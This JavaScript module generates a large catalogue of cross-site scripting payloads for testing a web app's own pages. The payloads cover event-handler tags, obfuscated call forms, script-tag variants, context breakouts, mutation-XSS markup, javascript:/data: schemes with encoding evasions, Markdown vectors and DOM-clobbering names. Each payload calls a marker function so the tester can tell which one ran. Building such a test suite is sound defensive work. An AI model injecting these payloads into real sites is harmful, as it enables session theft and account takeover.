// What somebody may write to have a page run it, made from a few lists: tags by handlers, the ways to write either, schemes
// of addresses by what holds one, forms of Markdown, markup that changes as it is parsed again, ends of what surrounds it.
// Each calls `ran` with its own number, so that what ran says by which text.

/** The ways to say a call without saying it plainly. */
const CALLS = [
  (n) => `ran(${n})`,
  (n) => `ran\`${n}\``,
  (n) => `alert(${n})`,
  (n) => `top['ra'+'n'](${n})`,
  (n) => `self[/*x*/"\\x72an"](${n})`,
  (n) => `r\\u0061n(${n})`,
  (n) => `eval('ran(${n})')`,
  (n) => `Function('ran(${n})')()`,
  (n) => `location='javascript:ran(${n})'`,
  (n) => `[${n}].map(ran)`,
];

/** Elements that run something by themselves, or as soon as they are touched: what stands before the handler, its name, and what follows. */
const HANDLED = [
  ["img src=x", "onerror", ""],
  ["img src=x srcset=x", "onerror", ""],
  ["svg", "onload", ""],
  ["body", "onload", ""],
  ["input autofocus", "onfocus", ""],
  ["select autofocus", "onfocus", ""],
  ["textarea autofocus", "onfocus", ""],
  ["a href=# tabindex=0 autofocus", "onfocus", ">x</a"],
  ["details open", "ontoggle", "><summary>x</summary>x</details"],
  ["video src=x", "onerror", ""],
  ["audio src=x", "onerror", ""],
  ["video><source", "onerror", ""],
  ["iframe src=about:blank", "onload", ""],
  ["object data=x", "onerror", ""],
  ["embed src=x", "onerror", ""],
  ["style", "onload", "></style"],
  ["link rel=stylesheet href=x", "onerror", ""],
  ["marquee", "onstart", ">x</marquee"],
  ["svg><animate attributeName=x dur=1s", "onbegin", ""],
  ["svg><set attributeName=x dur=1s", "onbegin", ""],
  ["svg><image href=x", "onerror", ""],
  ["math><mi", "onclick", ">x"],
  ["button", "onclick", ">x</button"],
  ["div tabindex=0", "onpointerenter", ">x</div"],
  ["p", "onmouseover", ">x</p"],
  ["xss contenteditable", "onkeydown", ">x"],
  ["p style=content-visibility:auto", "oncontentvisibilityautostatechange", ">x</p"],
  ["dialog open", "oncancel", ">x"],
];

/** The ways to write an element with a handler. */
const WRITTEN = [
  ([tag, on, rest], js) => `<${tag} ${on}="${js.replaceAll('"', "&quot;")}"${rest}>`,
  ([tag, on, rest], js) => `<${tag} ${on}=${js.replace(/[\s"'`>]/g, (sign) => `&#${sign.charCodeAt(0)};`)}${rest}>`,
  ([tag, on, rest], js) => `<${tag.replace(/=(\S+)/g, "='$1'").replaceAll(" ", "/")}/${on.toUpperCase()}='${js.replaceAll("'", "&#39;")}'${rest}>`,
  ([tag, on, rest], js) => `<${tag}\n${on}\t=\n"${js.replace(/./gsu, (sign) => `&#x${sign.codePointAt(0).toString(16)};`)}"${rest}>`,
  ([tag, on], js) => `<<${tag} x=">" ${on}="${js.replaceAll('"', "&quot;")}"//`,
];

/** Scripts, and what ends the places in which the text may stand. */
const SCRIPTS = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt/x>${js}</sCrIpT\n>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
  (js) => `<svg><script>${js.replaceAll("(", "&lpar;")}</script></svg>`,
  (js) => `<svg><script href="data:,${encodeURIComponent(js)}"/></svg>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `\u017fcript><\u017fcript>${js}</\u017fcript><script>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `<iframe srcdoc="<script>parent.${js.replaceAll('"', "&quot;")}</script>"></iframe>`,
  (js) => `<iframe srcdoc='<img src=x onerror=${js.replace(/[\s"'`>]/g, (sign) => `&#38;#${sign.charCodeAt(0)};`)}>'></iframe>`,
  (js) => `<template shadowrootmode=open><img src=x onerror="${js.replaceAll('"', "&quot;")}"></template>`,
  (js) => `<div><template shadowrootmode=open><script>${js}</script></template></div>`,
  (js) => `<base href="data:/,"><script src="${encodeURIComponent(js)}"></script>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js.replaceAll('"', "&quot;")}">`,
  (js) => `<meta http-equiv=content-security-policy content="script-src *"><script>${js}</script>`,
  (js) => `<form action="javascript:${js.replaceAll('"', "&quot;")}"><button autofocus>x</button></form>`,
  (js) => `<button form=composer formaction="javascript:${js.replaceAll('"', "&quot;")}">x</button>`,
  (js) => `<object data="javascript:${js.replaceAll('"', "&quot;")}"></object>`,
  (js) => `<style>@import 'javascript:${js}'; * { background: url("javascript:${js}") }</style>`,
  (js) => `<div style="background:url(javascript:${js.replaceAll('"', "&quot;")});x:expression(${js.replaceAll('"', "&quot;")})">x</div>`,
  (js) => `<link rel=stylesheet href="data:text/css,*{x:expression(${encodeURIComponent(js)})}">`,
];

/** What stands before markup so that it is markup whatever it was put into. */
const ENDS = ['">', "'>", "`>", "</textarea>", "</title>", "</style>", "</noscript>", "</select>", "</template>", "</svg>", "</math>", "-->", "]]>", "--!>", "?>", "</a></p></li></ol></main>", "\"'></option></optgroup></select>", "<!--><", "<![CDATA[><", "&quot;&gt;", "%22%3E", "\\u0022\\u003e", "\\x22\\x3e", "\u0000\">", "\u200b\">", "\ufeff'>", "\uff02\uff1e"];

/** What ends an attribute, a text of a script or of a template, and goes on as code. */
const WITHIN = [
  (js) => `" onmouseover="${js}" x="`,
  (js) => `' autofocus tabindex=0 onfocus='${js}' x='`,
  (js) => ` autofocus tabindex=0 onfocus=${js} x=`,
  (js) => `x" style="animation:x" onanimationstart="${js}`,
  (js) => `"-${js}-"`,
  (js) => `';${js};//`,
  (js) => `\\';${js};//`,
  (js) => `"};${js};{"`,
  (js) => `</script><svg onload=${js}>`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `{{${js}}} {%${js}%} <%=${js}%> #{${js}} [[${js}]]`,
  (js) => `\u2028${js}\u2029`,
  (js) => `javascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
];

/** Markup that is other markup once it was parsed, printed and parsed again. */
const MUTATING = [
  (img) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img.replaceAll("<", "&lt;").replaceAll('"', "&quot;")}">`,
  (img) => `<svg></p><style><a id="</style>${img.replaceAll('"', "'")}">`,
  (img) => `<noscript><p title="</noscript>${img.replaceAll('"', "'")}"></noscript>`,
  (img) => `<form><math><mtext></form><form><mglyph><style></math>${img}`,
  (img) => `<svg><title><style>${img}</style></title></svg>`,
  (img) => `<svg><foreignObject><p>${img}</p></foreignObject></svg>`,
  (img) => `<svg><desc><noembed></desc>${img}</noembed></svg>`,
  (img) => `<math><annotation-xml encoding="text/html">${img}</annotation-xml></math>`,
  (img) => `<math><mi><style><!-- </style>${img}--></mi></math>`,
  (img) => `<select><template><style><!--</style><a rel="--></style></template></select>${img.replaceAll('"', "'")}">`,
  (img) => `<table><caption><svg><table></svg>${img}</table>`,
  (img) => `<table><tr><td><a><table><a>${img}`,
  (img) => `<xmp><p title="</xmp>${img.replaceAll('"', "'")}"></xmp>`,
  (img) => `<noframes><p title="</noframes>${img.replaceAll('"', "'")}">`,
  (img) => `<!--<a href="-->${img.replaceAll('"', "'")}"-->`,
  (img) => `<!-- --!>${img}<!-- -->`,
  (img) => `<![CDATA[<!-->${img}-->]]>`,
  (img) => `<?xml ?>${img}<?php ?>`,
  (img) => `<plaintext>${img}`,
  (img) => `<div\u0000>${img}<im\u0000g src=x>`,
];

const SCHEMES = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java&#10;script:${js}`,
  (js) => `&#106;avascript&colon;${js}`,
  (js) => `javascript&#x3a;${js}`,
  (js) => `&Tab;javascript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `javascript:"/*'/*\`/*--></a>${js}//`,
  (js) => `\\javascript:${js}`,
  (js) => `java%73cript:${js}`,
  (js) => `vbscript:${js}`,
  (js) => `data:text/html,<script>parent.${js}</script>`,
  (js) => `data:text/html;base64,${Buffer.from(`<script>parent.${js}</script>`).toString("base64")}`,
  (js) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
  (js) => `blob:javascript:${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `//evil.example/?${js}`,
  (js) => `/\\evil.example/?${js}`,
  (js) => `https://evil.example/"onmouseover="${js}`,
  (js) => `/threads/018f0000-0000-7000-8000-000000000000" onmouseover="${js}`,
];

/** What holds an address in Markdown, and in the markup that Markdown lets through elsewhere. */
const HOLDERS = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}> "t' onclick='x")`,
  (url) => `![x](${url})`,
  (url) => `[![x](${url})](${url})`,
  (url) => `[x]: <${url}>\n\n[x] [y][x] ![x]`,
  (url) => `<${url}>`,
  (url) => `<a href="${url.replaceAll('"', "&quot;")}">x</a><iframe src="${url.replaceAll('"', "&quot;")}"></iframe>`,
  (url) => `<svg><a xlink:href="${url.replaceAll('"', "&quot;")}"><text>x</text></a><use href="${url.replaceAll('"', "&quot;")}"/></svg>`,
];

/** Places of Markdown in which markup may be taken for text, or text for markup. */
const MARKDOWN = [
  (img) => `\`\`\`" onload="x"><\n${img}\n\`\`\``,
  (img) => `\`\`\`${img.replaceAll("`", "")}\n${img}\n\`\`\``,
  (img) => `~~~html\n${img}\n`,
  (img) => `    ${img}`,
  (img) => `\`\`${img.replaceAll("`", "")}\`\``,
  (img) => `| ${img.replaceAll("|", "\\|")} | b |\n|:-:"onload="x"|--|\n| ${img} | \`${img.replaceAll("`", "")}\` |`,
  (img) => `> - [ ] ${img}\n> - [x] **${img}**`,
  (img) => `1. ${img}\n   <div>\n\n   ${img}\n   </div>`,
  (img) => `# ${img}\n\n${img}\n====`,
  (img) => `*a **b ~~${img}~~** c*`,
  (img) => `[${img}](https://irev.fr "${img.replaceAll('"', "'")}")`,
  (img) => `![" onerror="x](x "${img.replaceAll('"', "'")}")`,
  (img) => `[^1]\n\n[^1]: ${img}`,
  (img) => `<div>\n*${img}*\n\n</div>`,
  (img) => `&lt;b&gt;${img.replaceAll("<", "&lt;")}`,
  (img) => `\\${img}\\\\${img}`,
  (img) => `<http://irev.fr/${img.replaceAll(" ", "/")}> www.irev.fr/?${img} a@b.fr"${img}`,
  (img) => `@${img} #${img}`,
  (img) => `\u202e${img}\u2066\u061c${img.replace("<", "<\u00ad")}`,
  (img) => img.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e").replaceAll('"', "\uff02"),
  (img) => img.replace("<i", "<\u0131").replace("src", "\u017frc"),
  (img) => img.replace("<", "<\u200b").replace("=", "\u200d="),
];

/** Names that stand for something in our own pages and scripts. */
const CLOBBERED = ["announcer", "content", "composer", "body", "latest", "switcher", "kept", "pending-message", "trustedTypes", "dataset", "activeElement", "getElementById", "currentScript", "cookie"];

const image = (js) => `<img src=x onerror="${js.replaceAll('"', "&quot;")}">`;

/** All of it: each with its number and its text. */
export function payloads() {
  const made = [];
  const call = () => CALLS[made.length % CALLS.length](made.length);
  const plainly = () => CALLS[0](made.length);
  const add = (family, text) => made.push({ number: made.length, family, text });
  for (const handled of HANDLED) for (const written of WRITTEN) add("handler", written(handled, call()));
  for (const script of SCRIPTS) add("script", script(plainly()));
  for (const end of ENDS) add("end", `${end}${image(call())}`);
  for (const within of WITHIN) add("within", within(plainly()));
  for (const mutating of MUTATING) add("mutating", mutating(image(plainly())));
  for (const scheme of SCHEMES) for (const holder of HOLDERS) add("address", holder(scheme(plainly())));
  for (const markdown of MARKDOWN) add("markdown", markdown(image(plainly())));
  for (const name of CLOBBERED) add("name", `<form id=${name} name=${name}><input id=${name} name=${name} onfocus="${plainly()}" autofocus></form><a id=${name} href="javascript:${plainly()}">x</a>`);
  return made;
}

/** Texts of at most so many characters that hold them all, several each; one that is too long by itself is left out. */
export function packed(all, longest, between = " ") {
  const packs = [];
  let pack = "";
  for (const { text } of all) {
    if ([...text].length > longest) continue;
    const longer = pack === "" ? text : `${pack}${between}${text}`;
    if ([...longer].length > longest) packs.push(pack);
    pack = [...longer].length > longest ? text : longer;
  }
  return pack === "" ? packs : [...packs, pack];
}

/** The same as a line: without what a name or a title is refused for. */
export function lines(all) {
  return all.map((payload) => ({ ...payload, text: payload.text.replace(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g, " ").trim() }));
}
